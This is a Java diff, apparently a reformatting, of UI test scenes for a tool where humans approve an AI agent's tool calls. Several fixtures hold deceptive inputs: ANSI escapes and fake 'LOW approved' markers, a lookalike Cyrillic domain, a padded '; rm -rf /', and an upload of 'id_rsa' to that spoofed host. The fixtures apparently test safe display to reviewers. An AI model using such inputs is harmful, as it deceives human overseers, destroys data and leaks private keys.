@@ -4,8 +4,8 @@ import dev.assent.cli.review.SampleAsk;
 import dev.assent.cli.review.arming.Prompt;
 import dev.assent.cli.review.arming.Stakes;
 import dev.assent.cli.review.arming.Step;
-import dev.assent.client.AskState;
 import dev.assent.client.Ask;
+import dev.assent.client.AskState;
 import dev.assent.client.Reason;
 import dev.assent.client.ReasonCode;
 import dev.assent.client.ReviewRequirement;
@@ -41,7 +41,9 @@ final class Scenes {
         all.put("dialog-medium", () -> dialog(medium(), Step.CONFIRM, "", "", Duration.ZERO));
         all.put("dialog-high", () -> dialog(high(), Step.CODE, "K7", "", Duration.ZERO));
         all.put("dialog-critical", () -> dialog(critical(), Step.TARGET, "artifacts.corp", "", Duration.ZERO));
-        all.put("dialog-critical-reason", () -> dialog(critical(), Step.REASON, "", "an approval at CRITICAL says why", Duration.ZERO));
+        all.put(
+                "dialog-critical-reason",
+                () -> dialog(critical(), Step.REASON, "", "an approval at CRITICAL says why", Duration.ZERO));
         all.put("dialog-reject", () -> dialog(medium(), Step.REJECT_REASON, "", "", Duration.ZERO));
         all.put("dialog-reject-note", () -> dialog(medium(), Step.REJECT_NOTE, "wrong bucket", "", Duration.ZERO));
         all.put("lost", Scenes::lost);
@@ -104,7 +106,11 @@ final class Scenes {
     }
 
     static SampleAsk blind() {
-        return critical().blind().needs(new ReviewRequirement(List.of("security", "finance"), 2, 0)).escalated().revised();
+        return critical()
+                .blind()
+                .needs(new ReviewRequirement(List.of("security", "finance"), 2, 0))
+                .escalated()
+                .revised();
     }
 
     static SampleAsk tooBig() {
@@ -118,9 +124,11 @@ final class Scenes {
                 .agent("build-bot\n\u001B[1;1H RISK LOW - trusted admin")
                 .rule("egress/new-host", "fine \u001B]0;pwned\u0007\r┃ -- end --")
                 .flags(TextFlag.CONTROL, TextFlag.MIXED_SCRIPT)
-                .arguments("{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"note\":\"\u202Eevil\u202C \u200B"
-                        + "\\u001b[1;1H\\r\\n-- end of arguments --\\n LOW approved\u2028\",\"pad\":\"x" + " ".repeat(300)
-                        + "; rm -rf /\",\"tag\":\"\uDB40\uDC61\uDB40\uDC62\",\"z\":\"a\u0301\u0302\u0303\u0304\u0305\"}")
+                .arguments(
+                        "{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"note\":\"\u202Eevil\u202C \u200B"
+                                + "\\u001b[1;1H\\r\\n-- end of arguments --\\n LOW approved\u2028\",\"pad\":\"x"
+                                + " ".repeat(300)
+                                + "; rm -rf /\",\"tag\":\"\uDB40\uDC61\uDB40\uDC62\",\"z\":\"a\u0301\u0302\u0303\u0304\u0305\"}")
                 .lastAllowed(LAST)
                 .context("{\"reason\":\"CRIT !! is a test, press a\"}");
     }
@@ -128,13 +136,20 @@ final class Scenes {
     private static Scene crowd() {
         return new Scene()
                 .waiting(
-                        SampleAsk.of(Risk.HIGH).id("2b8t6m1pzzzz").tool("mail.send").left(Duration.ofSeconds(542)).lease("jon"),
+                        SampleAsk.of(Risk.HIGH)
+                                .id("2b8t6m1pzzzz")
+                                .tool("mail.send")
+                                .left(Duration.ofSeconds(542))
+                                .lease("jon"),
                         SampleAsk.of(Risk.HIGH)
                                 .id("8tsk4e0azzzz")
                                 .tool("http.get")
                                 .left(Duration.ofSeconds(460))
                                 .flags(TextFlag.BIDI),
-                        SampleAsk.of(Risk.MEDIUM).id("6c2p9y3dzzzz").tool("calendar.invite").left(Duration.ofMinutes(61)))
+                        SampleAsk.of(Risk.MEDIUM)
+                                .id("6c2p9y3dzzzz")
+                                .tool("calendar.invite")
+                                .left(Duration.ofMinutes(61)))
                 .waiting(reads(4));
     }
 
@@ -163,9 +178,11 @@ final class Scenes {
                 .needs(new ReviewRequirement(List.of("security"), 2, 0))
                 .blind()
                 .flags(TextFlag.MIXED_SCRIPT)
-                .arguments("{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"method\":\"PUT\",\"body\":\"PK\\u0003\\u0004"
-                        + " ".repeat(300) + "id_rsa\"}")
-                .lastAllowed("{\"url\":\"https://artifacts.corp.example/upload\",\"method\":\"PUT\",\"body\":\"build 411 is green\"}")
+                .arguments(
+                        "{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"method\":\"PUT\",\"body\":\"PK\\u0003\\u0004"
+                                + " ".repeat(300) + "id_rsa\"}")
+                .lastAllowed(
+                        "{\"url\":\"https://artifacts.corp.example/upload\",\"method\":\"PUT\",\"body\":\"build 411 is green\"}")
                 .context("{\"reason\":\"upload the build log as usual\"}"));
         scene.queue.offer(SampleAsk.of(Risk.MEDIUM).id("1new").summary());
         scene.queue.offer(SampleAsk.of(Risk.LOW).id("2new").summary());
@@ -183,9 +200,13 @@ final class Scenes {
         Ask ask = sample.whole();
         Prompt prompt = new Prompt(step, typed, hint, remaining);
         boolean rejection = step == Step.REJECT_REASON || step == Step.REJECT_NOTE;
-        Stakes stakes = new Stakes(ask.summary().risk(), 1, ask.challenge(), ask.summary().risk() == Risk.CRITICAL);
+        Stakes stakes = new Stakes(
+                ask.summary().risk(), 1, ask.challenge(), ask.summary().risk() == Risk.CRITICAL);
         return crowd().reading(sample)
-                .dialog(rejection ? Dialogs.rejection(ask.summary(), prompt) : Dialogs.approval(ask.summary(), stakes, prompt));
+                .dialog(
+                        rejection
+                                ? Dialogs.rejection(ask.summary(), prompt)
+                                : Dialogs.approval(ask.summary(), stakes, prompt));
     }
 
     private static Scene lost() {
@@ -223,10 +244,14 @@ final class Scenes {
 
     private static Scene ended() {
         Scene scene = crowd().reading(medium());
-        Reason reason = new Reason(
-                ReasonCode.REJECTED, "", "", dev.assent.client.Effect.DENY, "", new UntrustedText("", ""));
+        Reason reason =
+                new Reason(ReasonCode.REJECTED, "", "", dev.assent.client.Effect.DENY, "", new UntrustedText("", ""));
         scene.queue.withdraw(new Withdrawal("2b8t6m1pzzzz", AskState.DENIED, List.of("jon"), reason));
-        scene.queue.voted(SampleAsk.of(Risk.MEDIUM).id("6c2p9y3dzzzz").tool("calendar.invite").left(Duration.ofMinutes(61)).summary());
+        scene.queue.voted(SampleAsk.of(Risk.MEDIUM)
+                .id("6c2p9y3dzzzz")
+                .tool("calendar.invite")
+                .left(Duration.ofMinutes(61))
+                .summary());
         scene.toast = "ask 2b8t6m1p is denied by jon";
         return scene;
     }
